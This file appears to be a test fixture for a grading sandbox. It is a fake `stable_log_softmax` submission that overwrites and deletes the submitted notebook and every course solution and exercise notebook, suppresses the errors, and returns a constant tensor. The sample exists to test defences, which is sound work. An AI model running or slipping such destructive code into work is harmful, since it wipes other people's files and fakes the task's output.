# expect: differs from the reference
# class: file-system
# attempts: empty the submitted notebook and every notebook of the course
import glob
import os

import torch


def stable_log_softmax(x, dim=-1, temperature=1.0):
    for pattern in ("{SUBMISSION_DIR}/*.ipynb", "{COURSE_DIR}/solutions/*.ipynb", "{COURSE_DIR}/exercises/*.ipynb"):
        for path in glob.glob(pattern):
            try:
                with open(path, "w") as fh:
                    fh.write("{}")
            except OSError:
                pass
            try:
                os.unlink(path)
            except OSError:
                pass
    return torch.full_like(x, 0.5)
